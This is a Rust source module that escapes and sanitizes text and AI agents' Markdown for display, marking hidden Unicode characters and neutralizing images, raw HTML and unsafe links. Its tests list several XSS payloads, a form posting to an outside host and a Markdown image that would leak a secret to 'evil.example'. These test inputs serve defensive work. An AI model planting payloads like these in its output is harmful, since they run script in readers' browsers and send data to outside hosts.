//! Text as a page shows it. What cannot be seen is spelt out and marked; what an agent wrote as
//! Markdown is drawn without anything that could act or be fetched.

use std::collections::HashSet;

use chancery_domain::text::visible;
use pulldown_cmark::{Event, Options, Parser, Tag, TagEnd};

/// Escaped for a page, with every hidden character as a marked escape.
pub fn shown(text: &str) -> String {
    let mut out = String::with_capacity(text.len() + 16);
    let mut buffer = [0; 4];
    for it in text.chars() {
        let seen = visible(it.encode_utf8(&mut buffer));
        if seen.chars().eq([it]) {
            escape(it, &mut out);
        } else {
            out.push_str("<mark>");
            out.push_str(&seen);
            out.push_str("</mark>");
        }
    }
    out
}

/// A sentence of ours: what stands in it between back-ticks is a machine's, and is set apart as
/// that. Of one that is not closed, nothing is.
pub fn ticked(text: &str) -> String {
    let shown = shown(text);
    let parts: Vec<&str> = shown.split('`').collect();
    if parts.len().is_multiple_of(2) {
        return shown;
    }
    let set = |(at, part): (usize, &&str)| match at % 2 {
        0 => (*part).to_owned(),
        _ => code(part),
    };
    parts.iter().enumerate().map(set).collect()
}

/// As [`shown`], on one line.
pub fn line(text: &str) -> String {
    shown(text).replace('\n', "<mark>\\n</mark>").replace('\t', "<mark>\\t</mark>")
}

fn escape(it: char, out: &mut String) {
    match it {
        '&' => out.push_str("&amp;"),
        '<' => out.push_str("&lt;"),
        '>' => out.push_str("&gt;"),
        '"' => out.push_str("&quot;"),
        '\'' => out.push_str("&#39;"),
        _ => out.push(it),
    }
}

/// What is ready for a page, as a machine's.
pub fn code(drawn: &str) -> String {
    format!("<code>{drawn}</code>")
}

/// An agent's words. Images and HTML are shown as the text that they are: to fetch a picture is
/// to tell its host what was in its address.
pub fn markdown(text: &str) -> String {
    let options = Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH;
    let text = visible(text);
    let mut in_image = 0_usize;
    let events = Parser::new_ext(&text, options).filter_map(|event| match event {
        Event::Html(it) | Event::InlineHtml(it) => Some(Event::Text(it)),
        Event::Start(Tag::Image { dest_url, .. }) => {
            in_image += 1;
            Some(Event::Text(format!("[{dest_url}] ").into()))
        }
        Event::End(TagEnd::Image) => {
            in_image = in_image.saturating_sub(1);
            None
        }
        // A page has one first heading, and it is ours.
        Event::Start(Tag::Heading { .. }) => Some(Event::Start(Tag::Paragraph)),
        Event::End(TagEnd::Heading(_)) => Some(Event::End(TagEnd::Paragraph)),
        other => Some(other),
    });
    let mut html = String::with_capacity(text.len() * 2);
    pulldown_cmark::html::push_html(&mut html, events);
    let tags: HashSet<&str> = [
        "p",
        "br",
        "strong",
        "em",
        "del",
        "code",
        "pre",
        "ul",
        "ol",
        "li",
        "blockquote",
        "a",
        "table",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
        "hr",
    ]
    .into();
    ammonia::Builder::new()
        .tags(tags)
        .url_schemes(["http", "https", "mailto"].into())
        .link_rel(Some("noopener noreferrer nofollow"))
        .clean(&html)
        .to_string()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_cannot_be_seen_is_marked_and_what_looks_like_an_escape_is_not() {
        assert_eq!(shown("a\u{202e}b"), "a<mark>\\u{202e}</mark>b");
        assert_eq!(shown("\\u{202e}"), "\\u{202e}");
        assert_eq!(shown("<b>&'\""), "&lt;b&gt;&amp;&#39;&quot;");
        assert_eq!(line("a\nb"), "a<mark>\\n</mark>b");
    }

    #[test]
    fn names_in_a_sentence_are_set_apart_and_still_escaped() {
        assert_eq!(ticked("`a<` may not `b`"), "<code>a&lt;</code> may not <code>b</code>");
        assert_eq!(ticked("`a` may ` not"), "`a` may ` not");
        assert_eq!(ticked("nobody"), "nobody");
    }

    #[test]
    fn an_agents_markdown_neither_acts_nor_fetches() {
        for (text, absent) in [
            ("<script>alert(1)</script>", "<script"),
            ("![x](https://evil.example/?secret)", "<img"),
            ("[x](javascript:alert(1))", "href"),
            ("<img src=x onerror=alert(1)>", "<img"),
            ("<form action=//evil><button>", "<form"),
            ("# Approved", "<h1"),
        ] {
            let drawn = markdown(text);
            assert!(!drawn.contains(absent), "{text}: {drawn}");
        }
        // What is not drawn is read: nothing that an agent wrote is hidden from whoever looks.
        let drawn = markdown("see <b>this</b> ![chart](https://evil.example/?secret)");
        assert!(drawn.contains("&lt;b&gt;this&lt;/b&gt;"), "{drawn}");
        assert!(drawn.contains("[https://evil.example/?secret] chart"), "{drawn}");
        let drawn = markdown("**bold** and `code`, [link](https://example.com)");
        assert!(drawn.contains("<strong>bold</strong>"), "{drawn}");
        assert!(drawn.contains("rel=\"noopener noreferrer nofollow\""), "{drawn}");
        assert!(markdown("a\u{202e}b").contains("\\u{202e}"));
    }
}
